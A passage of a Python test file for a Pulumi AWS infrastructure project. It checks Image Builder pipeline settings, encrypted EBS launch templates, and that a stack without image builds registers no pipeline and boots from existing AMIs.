            "schedule": p.inputs["schedule"],
            "status": p.inputs["status"],
            "imageTestsConfiguration": {"imageTestsEnabled": True, "timeoutMinutes": 90},
        }
        aws_models.check("imagebuilder", "CreateImagePipeline", {**body, **token})
    for t in of(prod, "aws:ec2/launchTemplate:LaunchTemplate"):
        disks = [
            {
                "DeviceName": d["deviceName"],
                "Ebs": {
                    "Encrypted": True,
                    "VolumeSize": int(d["ebs"]["volumeSize"]),
                    "VolumeType": d["ebs"]["volumeType"],
                    **(
                        {"VolumeInitializationRate": int(d["ebs"]["volumeInitializationRate"])}
                        if "volumeInitializationRate" in d["ebs"]
                        else {}
                    ),
                },
            }
            for d in t.inputs["blockDeviceMappings"]
        ]
        data = {"ImageId": t.inputs["imageId"], "BlockDeviceMappings": disks}
        aws_models.check("ec2", "CreateLaunchTemplate", {"LaunchTemplateName": f"{t.inputs['namePrefix']}x", "LaunchTemplateData": data})


def test_a_stack_without_images_registers_no_pipeline_and_boots_its_amis(tmp_path: Path) -> None:
    data = yaml.safe_load((PROJECT_DIR / "Pulumi.prod.yaml").read_text())
    data["config"]["runner-estate:images"] = {"build": False}
    data["config"]["runner-estate:runner_configs"] = str(EXAMPLE_CONFIGS)
    path = tmp_path / "Pulumi.prod.yaml"
    path.write_text(yaml.safe_dump(data))
    records = run_program(PROJECT_DIR, "prod", stack_path=path).records
    assert not [r for r in records if r.type.startswith("aws:imagebuilder/") or r.type == "runner-estate:index:ImagePipeline"]
    for template in of(records, "aws:ec2/launchTemplate:LaunchTemplate"):
        assert template.inputs["imageId"].startswith("ami-")
        assert "BUNDLE" in base64.b64decode(template.inputs["userData"]).decode()  # the host programs ride in user-data
